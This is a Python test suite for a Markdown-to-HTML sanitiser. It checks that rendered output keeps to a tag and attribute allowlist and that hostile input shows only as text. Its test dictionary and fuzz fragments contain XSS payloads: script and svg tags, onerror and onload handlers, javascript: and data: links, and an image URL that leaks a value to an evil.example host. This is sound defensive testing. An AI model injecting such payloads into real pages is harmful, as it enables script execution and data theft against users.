"""The model's Markdown as safe HTML (C13, Markdown edition).

:func:`nb_hitl.markdown.to_safe_html` renders CommonMark (markdown-it-py, raw
HTML off) and sanitises it (nh3). Each output is parsed with the standard
library's HTML parser: every tag and attribute must be in the allowlist,
every link an absolute http(s)/mailto URL with ``rel`` and ``target``; an
attack string shows as text.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from nb_hitl.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, LINK_REL, markdown_html, to_safe_html

CELL_ATTRS = {"th": {"align"}, "td": {"align"}}


class Parsed(HTMLParser):
    """Tags with their attributes, and the text, of an HTML fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment survived: {data!r}")


def assert_safe(html: str) -> Parsed:
    """Every tag and attribute of ``html`` is allowed; links are absolute http(s)/mailto."""
    parsed = Parsed(html)
    for tag, attrs in parsed.tags:
        assert tag in ALLOWED_TAGS, f"tag <{tag}> in {html!r}"
        allowed = set(ALLOWED_ATTRIBUTES.get(tag, ())) | CELL_ATTRS.get(tag, set())
        if tag == "a":
            allowed |= {"rel", "target"}
            assert attrs.get("rel") == LINK_REL and attrs.get("target") == "_blank", html
            href = attrs.get("href")
            if href is not None:
                assert href.split(":", 1)[0].lower() in ("http", "https", "mailto"), f"href {href!r}"
        assert set(attrs) <= allowed, f"<{tag}> attributes {sorted(attrs)} in {html!r}"
    return parsed


def tags_of(html: str) -> list[str]:
    return [t for t, _ in Parsed(html).tags]


def test_lists_code_links_tables_and_emphasis_are_rendered() -> None:
    md = (
        "## Plan\n\n"
        "1. **read** the *file*\n2. ~~guess~~ `check`\n\n"
        "- a\n- b\n\n"
        "```python\nprint('<b>hi</b>')\n```\n\n"
        "> quoted\n\n"
        "| name | size |\n|:-----|-----:|\n| a.txt | 3 |\n\n"
        'See [the docs](https://example.org/docs "Docs") or <https://example.org>, or mail <a@b.org>.\n\n---'
    )
    html = to_safe_html(md)
    parsed = assert_safe(html)
    tags = tags_of(html)
    expected = "h2 ol li strong em s code ul pre blockquote table th td a hr".split()
    assert set(expected) <= set(tags), f"{sorted(set(expected) - set(tags))} missing from {html}"
    links = [a for t, a in parsed.tags if t == "a"]
    assert [a["href"] for a in links] == ["https://example.org/docs", "https://example.org", "mailto:a@b.org"]
    assert links[0]["title"] == "Docs"
    assert [a.get("align") for t, a in parsed.tags if t in ("th", "td")] == ["left", "right", "left", "right"]
    assert "print('<b>hi</b>')" in parsed.text  # code shows its markup as text


ATTACKS = {
    "script": "<script>window.__pwned=1</script>",
    "img onerror": '<img src=x onerror="window.__pwned=1">',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link, mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript link, entity tab": "[x](java&#x09;script:alert(1))",
    "javascript link, angle brackets": "[x](<javascript:alert(1)>)",
    "javascript reference link": "[x][r]\n\n[r]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[x](vbscript:msgbox(1))",
    "raw html block": '<div onclick="window.__pwned=1" style="position:fixed">\n\n*hi*\n\n</div>',
    "raw inline html": 'a <span onmouseover="window.__pwned=1">b</span> <a href="javascript:alert(1)">c</a>',
    "nested svg script": "<svg><script>window.__pwned=1</script></svg>",
    "svg onload": "<svg onload=window.__pwned=1>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "style": "<style>body{display:none}</style>",
    "comment": "<!-- <script>window.__pwned=1</script> -->",
    "markdown image": "![pic](https://evil.example/p.png?leak=secret)",
    "image with javascript": "![x](javascript:alert(1))",
    "link attribute break-out": '[x](https://a.example/" onmouseover="alert(1))',
    "relative link": "[x](/api/contents)",
    "protocol-relative link": "[x](//evil.example)",
    "attack in a list": "- <img src=x onerror=alert(1)>\n- <script>alert(1)</script>",
    "attack in a table": "| a |\n|---|\n| <script>alert(1)</script> |",
    "attack in code": "`<script>alert(1)</script>`",
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_C13_attack_strings_execute_nothing_and_show_as_text(name: str) -> None:
    html = to_safe_html(ATTACKS[name])
    parsed = assert_safe(html)
    assert not {"script", "img", "svg", "iframe", "style", "div", "span"} & {t for t, _ in parsed.tags}
    for _, attrs in parsed.tags:
        assert not any(k.startswith("on") for k in attrs), html
        assert "style" not in attrs
        href = (attrs.get("href") or "").lower()
        assert "javascript" not in href and not href.startswith("data:")


def test_markup_in_the_text_is_visible_as_text() -> None:
    parsed = Parsed(to_safe_html('Text <img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'))
    assert parsed.tags == [("p", {})]
    assert parsed.text == 'Text <img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>'
    # a raw HTML block shows its tags too, and the Markdown inside it is rendered
    parsed = Parsed(to_safe_html(ATTACKS["raw html block"]))
    assert '<div onclick="window.__pwned=1" style="position:fixed">' in parsed.text
    assert ("em", {}) in parsed.tags


def test_an_image_is_a_link_to_click_never_loaded() -> None:
    parsed = assert_safe(to_safe_html(ATTACKS["markdown image"]))
    assert [t for t, _ in parsed.tags] == ["p", "a"]
    assert parsed.tags[1][1]["href"] == "https://evil.example/p.png?leak=secret"
    assert parsed.text == "pic"


def test_links_nh3_would_keep_but_we_do_not_lose_their_href() -> None:
    for md in (ATTACKS["relative link"], ATTACKS["protocol-relative link"], "[x](#top)"):
        parsed = assert_safe(to_safe_html(md))
        assert parsed.tags[1][0] == "a" and "href" not in parsed.tags[1][1], md
        assert parsed.text == "x"


def test_plain_text_needs_no_html() -> None:
    assert markdown_html("I deleted the old log.") is None
    assert markdown_html("Text <img src=x onerror=alert(1)>") is None  # shown as streamed, as text
    assert markdown_html("") is None and markdown_html("  \n ") is None
    assert to_safe_html("") == ""
    assert markdown_html("- a\n- b") == to_safe_html("- a\n- b")
    assert markdown_html("a &amp; b") == "<p>a &amp; b</p>"  # an entity reads differently: rendered
    assert markdown_html(r"2 \* 3") == "<p>2 * 3</p>"


def test_deep_nesting_and_long_text_are_bounded() -> None:
    html = to_safe_html(">" * 5000 + " deep")
    assert_safe(html)
    assert html.count("<blockquote>") <= 100
    long = "word " * 200_000
    assert len(to_safe_html(long)) < len(long) + 100


FRAGMENTS = st.sampled_from(
    [
        "<",
        ">",
        "<script>",
        "</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert(1)",
        "[",
        "](",
        ")",
        "![",
        "`",
        "```\n",
        "*",
        "_",
        "\n",
        "\n\n",
        "- ",
        "> ",
        "| a |\n|---|\n",
        '"',
        "'",
        "&#",
        "&lt;",
        "<svg>",
        "<a href=",
        "data:text/html,",
        "https://x.example/",
        "<!--",
        "-->",
        "\\",
        " onload=",
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(st.one_of(FRAGMENTS, st.text(max_size=5)), max_size=30))
def test_any_mix_of_markdown_and_markup_stays_in_the_allowlist(parts: list[str]) -> None:
    text = "".join(parts)
    html = to_safe_html(text)
    assert_safe(html)
    assert to_safe_html(text) == html  # pure
    rendered = markdown_html(text)
    assert rendered is None or rendered == html
